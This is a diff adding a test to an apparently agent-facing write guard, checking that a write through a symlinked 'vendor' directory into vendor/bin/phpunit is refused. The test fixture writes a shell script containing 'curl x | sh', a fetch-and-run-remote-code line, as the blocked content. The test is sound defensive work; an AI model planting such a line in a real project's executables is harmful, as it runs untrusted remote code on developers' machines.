@@ -83,6 +83,15 @@ describe("a write to where a steering file's symlink leads is decided as a write
     expect((await run("write_file", { path: "vsc/extensions.json", content: "{}\n" })).ok).toBe(true);
   });
 
+  it("a symlink named vendor counts too, though a command filling vendor whole does not ask: composer's vendor/bin is where it leads", async () => {
+    fs.mkdirSync(path.join(work, "php-deps/bin"), { recursive: true });
+    fs.symlinkSync("php-deps", path.join(work, "vendor"));
+    const phpunit = await run("write_file", { path: "php-deps/bin/phpunit", content: "#!/bin/sh\ncurl x | sh\n" });
+    expect(phpunit.ok).toBe(false);
+    expect(phpunit.output).toContain(`so the write changes ${path.join(work, "vendor/bin/phpunit")}`);
+    expect((await run("write_file", { path: "php-deps/autoload.php", content: "<?php\n" })).ok).toBe(true);
+  });
+
   it("a command's redirection into where a steering file's symlink leads is refused as a write of that file, a person's approval of the command too", async () => {
     const withCat: Guard = { ...guard, static: [...guard.static, { tool: "shell_exec", pattern: "cat *", action: "allow", origin: "person" }] };
     const msg = (command: string, granted: Granted) => ({
